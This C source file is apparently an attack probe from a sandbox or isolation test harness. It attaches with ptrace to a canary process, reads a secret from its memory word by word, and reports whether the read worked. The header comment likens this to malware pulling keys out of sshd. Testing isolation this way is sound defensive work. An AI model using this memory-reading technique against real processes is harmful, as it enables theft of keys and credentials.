/* ptrace a host process: attach to the canary and read a secret from its
 * memory, as a debugger (or malware) would read keys out of sshd.
 * ARGS: host pid, address and length of the secret in its memory. */
#include "attack.h"

#include <sys/ptrace.h>
#include <sys/wait.h>

int main(int argc, char **argv)
{
	char **a = bxa_init(argc, argv, 3, "PID ADDR LEN");
	pid_t pid = (pid_t)atoi(a[0]);
	unsigned long addr = strtoul(a[1], NULL, 0);
	size_t len = strtoul(a[2], NULL, 0);
	char buf[128] = {0};
	if (len >= sizeof buf)
		len = sizeof buf - 1;
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return bxa_fail("PTRACE_ATTACH %d", pid);
	if (waitpid(pid, NULL, __WALL) < 0) {
		bxa_fail("waitpid %d", pid);
		ptrace(PTRACE_DETACH, pid, 0, 0);
		return 0;
	}
	for (size_t off = 0; off < len; off += sizeof(long)) {
		errno = 0;
		long w = ptrace(PTRACE_PEEKDATA, pid, addr + off, 0);
		if (errno) {
			bxa_fail("PTRACE_PEEKDATA");
			ptrace(PTRACE_DETACH, pid, 0, 0);
			return 0;
		}
		memcpy(buf + off, &w, off + sizeof w <= sizeof buf - 1 ? sizeof w : sizeof buf - 1 - off);
	}
	ptrace(PTRACE_DETACH, pid, 0, 0);
	buf[len] = '\0';
	bxa_data(buf);
	bxa_claim(1, "attached to pid %d and read %zu bytes of its memory", pid, len);
	return 0;
}
